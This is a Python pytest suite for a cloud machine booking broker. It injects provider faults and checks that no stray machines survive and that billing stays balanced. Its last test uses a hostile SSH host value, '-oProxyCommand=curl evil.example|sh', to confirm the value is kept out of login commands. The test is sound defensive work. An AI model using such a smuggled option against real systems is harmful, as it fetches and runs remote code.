"""Whatever the cloud does wrong: no second machine that stays, no price that was not agreed, no money adrift."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from adapters.sandbox_cloud import REFUSALS, SandboxRefusal
from adapters.sandbox_dial import FAULTS, Endpoint, Fault
from market import availability, booking_book, journal, mandate_book, strays, usage
from market.bookings import Booking
from market.errors import BrokerError, InFlight
from tests.buying import Buying, balanced, opened
from tests.conftest import ManualClock
from tools.fulfilment import Fulfilment, hands
from tools.watchdog import Watchdog

MINUTE = timedelta(minutes=1)


@pytest.fixture
async def buying(tmp_path: Path, clock: ManualClock) -> AsyncIterator[Buying]:
    """A calm cloud beside an empty database."""
    async with opened(tmp_path, clock) as found:
        yield found


async def ended(buying: Buying, booking_id: str) -> Booking:
    """The booking after its owner has ended it, and time for what was left to do."""
    buying.world.dial.clear()
    await buying.asks("terminate_booking", booking_id=booking_id)
    await buying.passes(5 * MINUTE)
    return await buying.booking(booking_id)


_VALUES = {"latency": 30.0, "slow_down": 1.0, "clock_skew": 900.0, "wrong_price": 2.0, "refusal": "no_capacity"}

_PLACES: tuple[Endpoint, ...] = ("price", "account", "launch", "list", "status", "terminate", "bill")

_OF_ORDERS = {"duplicate", "no_id", "wrong_price", "vanish", "refusal"}
_STRIKES = [
    (fault, endpoint)
    for fault in FAULTS
    for endpoint in _PLACES
    if endpoint == "launch"
    or fault not in _OF_ORDERS | {"ignored_termination"}
    or (fault == "ignored_termination" and endpoint == "terminate")
]


@pytest.mark.parametrize(("fault", "endpoint"), _STRIKES)
async def test_any_fault_anywhere_leaves_one_machine_at_most_and_the_books_in_order(
    buying: Buying, fault: str, endpoint: Endpoint
) -> None:
    quote = await buying.quoted()
    struck = Fault(fault, _VALUES.get(fault))  # type: ignore[arg-type]
    places: set[Endpoint] = {endpoint, "list"} if fault == "lost_reply" else {endpoint}
    for place in places:
        buying.world.dial.script(place, [struck, struck])
    try:
        booked = await buying.books(quote)
    except BrokerError:
        # Before anything is bought the provider is asked for its price and its terms.
        assert {endpoint} <= {"price", "account"}
        assert buying.running() == []
        assert await buying.held() == 0
        return
    await buying.passes(6 * MINUTE)
    await balanced(buying)
    booking = await ended(buying, booked.id)
    assert booking.is_final, (booking.state, booking.reason)
    await balanced(buying)
    assert buying.running() == []


async def test_a_machine_dearer_than_quoted_is_given_back_at_once(buying: Buying) -> None:
    quote = await buying.quoted()
    buying.world.dial.script("launch", [Fault("wrong_price", 2.0)])
    booked = await buying.books(quote)
    await buying.passes(MINUTE)
    booking = await buying.booking(booked.id)
    assert booking.state == "compensated"
    assert "where" in (booking.reason or "")
    assert buying.running() == []
    await balanced(buying)


async def test_the_second_machine_of_one_order_is_ended_and_reported(buying: Buying) -> None:
    quote = await buying.quoted()
    buying.world.dial.script("launch", ["duplicate"])
    booked = await buying.books(quote)
    await buying.passes(3 * MINUTE)
    assert (await buying.booking(booked.id)).state == "active"
    assert len(buying.running()) == 1
    assert len(buying.world.cloud.machines) == 2


async def test_a_machine_that_appears_after_it_was_given_up_is_ended(buying: Buying) -> None:
    quote = await buying.quoted()
    buying.world.dial.script("launch", ["lost_reply"])
    buying.world.dial.set("server_error", endpoint="list")
    booked = await buying.books(quote)
    await buying.passes(2 * MINUTE)
    assert (await buying.booking(booked.id)).state == "stuck"
    buying.world.dial.clear()
    await buying.passes(3 * MINUTE)
    assert (await buying.booking(booked.id)).state == "compensated"
    assert buying.running() == []
    await balanced(buying)


async def test_a_machine_nobody_booked_is_reported_and_one_of_ours_is_ended(buying: Buying) -> None:
    booking = await buying.active()
    instance = booking.machines[0].provider_instance_id
    await buying.asks("terminate_booking", booking_id=booking.id)
    machine = buying.world.cloud.machines[str(instance)]
    machine.state, machine.end_reason, machine.ended_at = "running", None, None
    buying.world.cloud._live[machine.id] = machine
    await buying.passes(2 * MINUTE)
    assert buying.running() == []
    assert await strays.unresolved(await buying.store()) == []


async def test_a_spot_machine_taken_back_ends_its_booking_with_what_it_cost(buying: Buying) -> None:
    booking = await buying.active(quote=await buying.quoted(await buying.offer("spot")))
    assert booking.pricing == "spot"
    buying.world.cloud.interrupt(str(booking.machines[0].provider_instance_id))
    await buying.passes(MINUTE)
    ended_one = await buying.booking(booking.id)
    assert ended_one.state == "terminated"
    assert "took a machine back" in (ended_one.reason or "")
    await balanced(buying)


async def test_a_machine_that_will_not_end_is_stuck_until_it_does(buying: Buying) -> None:
    booking = await buying.active()
    buying.world.dial.set("ignored_termination", endpoint="terminate")
    shown = await buying.asks("terminate_booking", booking_id=booking.id)
    assert shown.state == "terminating"
    await buying.passes(5 * MINUTE)
    stuck = await buying.booking(booking.id)
    assert stuck.state == "stuck"
    assert str(stuck.machines[0].provider_instance_id) in (stuck.reason or "")
    assert (await buying.asks("list_bookings")).warnings
    buying.world.dial.clear()
    await buying.passes(2 * MINUTE)
    assert (await buying.booking(booking.id)).state == "terminated"
    await balanced(buying)


async def test_an_offer_that_could_not_be_had_is_remembered_for_an_hour(buying: Buying) -> None:
    offer = await buying.offer()
    quote = await buying.quoted(offer)
    buying.world.dial.script("launch", [Fault("refusal", "no_capacity")])
    await buying.books(quote)
    store = await buying.store()
    assert (await availability.recent(store, buying.clock.now()))[offer].times == 1
    assert await availability.recent(store, buying.clock.now() + timedelta(hours=2)) == {}


async def test_a_watchdog_beside_the_door_orders_nothing_twice(
    tmp_path: Path, clock: ManualClock, database_url: str
) -> None:
    async with opened(tmp_path, clock, database_url=database_url) as buying:
        quotes = [await buying.quoted() for _ in range(3)]

        async def watching() -> None:
            while True:
                await hands(buying.market).sweep()
                await asyncio.sleep(0)

        watchdog = asyncio.create_task(watching())
        await asyncio.gather(*(buying.books(quote) for quote in quotes))
        watchdog.cancel()
        await asyncio.gather(watchdog, return_exceptions=True)
        launches = [path for method, path in buying.world.requests if method == "POST"]
        assert len(launches) == len(buying.world.cloud.machines) == len(quotes)


class Killed(BaseException):
    """The process dies here."""


def dying_at(buying: Buying, moment: str) -> None:
    """This process dies the first time it comes to that point; its successor goes on."""
    deaths = [moment]

    async def point(name: str) -> None:
        if name in deaths:
            deaths.remove(name)
            raise Killed(name)

    buying.market.kept["fulfilment"] = Fulfilment(buying.market, point=point)


async def _books_and_dies(buying: Buying, **wanted: Any) -> Booking:
    with pytest.raises(Killed):
        await buying.books(await buying.quoted(**wanted))
    await buying.passes(3 * MINUTE)
    found = await booking_book.of_caller(await buying.store(), None)
    return found[0]


@pytest.mark.parametrize("refused", [1, 2, 3])
async def test_a_gang_short_of_a_machine_is_undone_by_whoever_goes_on(buying: Buying, refused: int) -> None:
    dying_at(buying, "machine failed")
    refusal = Fault("refusal", "no_capacity")
    buying.world.dial.script("launch", [*[None] * (refused - 1), refusal])
    booking = await _books_and_dies(buying, count=3)
    assert booking.state == ("failed" if refused == 1 else "compensated"), booking.reason
    assert len(buying.world.cloud.machines) == refused - 1
    assert buying.running() == []
    await balanced(buying)


async def test_a_machine_that_is_too_dear_is_given_back_by_whoever_goes_on(buying: Buying) -> None:
    dying_at(buying, "launch written")
    buying.world.dial.script("launch", [Fault("wrong_price", 2.0)])
    booking = await _books_and_dies(buying)
    assert booking.state == "compensated"
    assert buying.running() == []
    await balanced(buying)


async def test_a_machine_that_is_gone_ends_its_booking_whoever_has_seen_it(buying: Buying) -> None:
    booking = await buying.active(quote=await buying.quoted(count=2))
    dying_at(buying, "machine gone")
    buying.world.cloud.interrupt(str(booking.machines[0].provider_instance_id))
    await buying.passes(2 * MINUTE)
    found = await buying.booking(booking.id)
    assert (found.state, found.reason) == ("terminated", "the provider took a machine back")
    assert buying.running() == []
    await balanced(buying)


async def test_one_key_many_times_at_once_is_one_booking_and_no_other_refusal(
    tmp_path: Path, clock: ManualClock, database_url: str
) -> None:
    async with opened(tmp_path, clock, database_url=database_url) as buying:
        quote = await buying.quoted()
        calls = [buying.books(quote, idempotency_key="same") for _ in range(12)]
        answers = await asyncio.gather(*calls, return_exceptions=True)
        booked = {one.id for one in answers if not isinstance(one, BaseException)}
        assert len(booked) == len(buying.running()) == 1
        assert {type(one) for one in answers if isinstance(one, BaseException)} <= {InFlight}
        await balanced(buying)


async def test_whoever_wakes_up_after_its_hold_orders_nothing(buying: Buying) -> None:
    quote = await buying.quoted()
    successor = Fulfilment(buying.market)

    async def point(name: str) -> None:
        if name == "launch intended":
            (one,) = await booking_book.open_bookings(await buying.store())
            buying.clock.advance(MINUTE)
            await successor.advance(one.id)

    buying.market.kept["fulfilment"] = Fulfilment(buying.market, point=point)
    booked = await buying.books(quote)
    assert booked.state == "failed"
    assert not buying.world.cloud.machines
    await balanced(buying)


async def test_the_same_seconds_are_counted_once_whoever_counts_them(
    tmp_path: Path, clock: ManualClock, database_url: str
) -> None:
    async with opened(tmp_path, clock, database_url=database_url) as buying:
        booking = await buying.active()
        (machine,), store, now = booking.machines, await buying.store(), buying.clock.now()

        async def counted(until: datetime) -> Decimal:
            async with store.write() as connection:
                return await usage.meter(connection, booking, machine, until)

        amounts = await asyncio.gather(counted(now + MINUTE), counted(now + 2 * MINUTE))
        assert sorted(amount > 0 for amount in amounts) == [False, True]
        spent = (await buying.booking(booking.id)).spent
        assert spent == booking.spent + max(amounts)


async def test_a_lost_order_that_is_ended_is_paid_for(buying: Buying) -> None:
    quote = await buying.quoted()
    buying.world.dial.script("launch", ["lost_reply"])
    buying.world.dial.set("server_error", endpoint="list")
    booked = await buying.books(quote)
    await buying.passes(MINUTE / 4)
    ending = asyncio.create_task(buying.asks("terminate_booking", booking_id=booked.id))
    buying.clock.advance(2 * MINUTE)
    await ending
    buying.world.dial.clear()
    await buying.passes(2 * MINUTE)
    booking = await buying.booking(booked.id)
    (machine,) = buying.world.cloud.machines.values()
    assert booking.is_final
    assert booking.final_cost == machine.amount(buying.clock.now()) > 0
    await balanced(buying)


async def test_two_watchdogs_book_a_late_bill_once(tmp_path: Path, clock: ManualClock, database_url: str) -> None:
    async with opened(tmp_path, clock, database_url=database_url) as buying:
        booking = await buying.active()
        buying.world.dial.set("server_error", endpoint="bill")
        await buying.asks("terminate_booking", booking_id=booking.id)
        ended_one = await buying.booking(booking.id)
        assert ended_one.is_final
        assert ended_one.provider_cost is None
        buying.world.dial.clear()
        (machine,) = buying.world.cloud.machines.values()
        machine.price_per_hour *= 2
        await asyncio.gather(*(Watchdog(buying.market, serving=False).tick() for _ in range(2)))
        charged = machine.amount(clock.now())
        assert (await buying.booking(booking.id)).final_cost == charged
        lines = await usage.entries(await buying.store(), booking.id)
        assert sum((line.amount for line in lines), Decimal(0)) == charged
        standing = await mandate_book.standing(await buying.store(), ended_one.mandate_id)
        assert standing.spent + standing.overrun == charged
        assert standing.overrun == charged - (ended_one.final_cost or 0)


async def test_a_duplicate_s_end_that_was_cut_off_leaves_no_step_open(buying: Buying) -> None:
    quote = await buying.quoted()
    dying_at(buying, "duplicate to be ended")
    buying.world.dial.script("launch", [Fault("duplicate")])
    launch = buying.world.cloud.launch

    def answers_without_id(*order: Any, **more: Any) -> Any:
        launch(*order, **more)
        raise SandboxRefusal("no_such_code", "")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(buying.world.cloud, "launch", answers_without_id)
        patch.setitem(REFUSALS, "no_such_code", 500)
        with pytest.raises(Killed):
            await buying.books(quote)
    await buying.passes(3 * MINUTE)
    (booking,) = await booking_book.open_bookings(await buying.store())
    assert booking.state == "active"
    assert len(buying.running()) == 1
    steps = await journal.entries(await buying.store(), booking.id)
    assert [one.step for one in steps if one.state == "intended"] == []
    assert "terminate" in [one.step for one in steps]
    await balanced(buying)


async def test_whoever_wakes_up_after_its_hold_settles_nothing(
    buying: Buying, caplog: pytest.LogCaptureFixture
) -> None:
    booking = await buying.active()
    successor = Fulfilment(buying.market)

    async def point(name: str) -> None:
        if name == "gone":
            buying.clock.advance(MINUTE)
            await successor.advance(booking.id)

    buying.market.kept["fulfilment"] = Fulfilment(buying.market, point=point)
    ended_one = await buying.asks("terminate_booking", booking_id=booking.id)
    assert ended_one.state == "terminated"
    assert [one.getMessage() for one in caplog.records if one.exc_info] == []
    await balanced(buying)


async def test_what_is_no_host_is_never_part_of_a_line_to_log_in_with(buying: Buying) -> None:
    buying.world.cloud.ssh_host = "-oProxyCommand=curl evil.example|sh"
    booking = await buying.active()
    shown = await buying.asks("list_bookings", booking_id=booking.id)
    assert shown.items[0].ssh is None
    buying.world.cloud.ssh_host = "203.0.113.7"
    await buying.passes(2 * MINUTE)
    shown = await buying.asks("list_bookings", booking_id=booking.id)
    assert shown.items[0].ssh == [f"ssh -p {buying.world.cloud.ssh_port} root@203.0.113.7"]
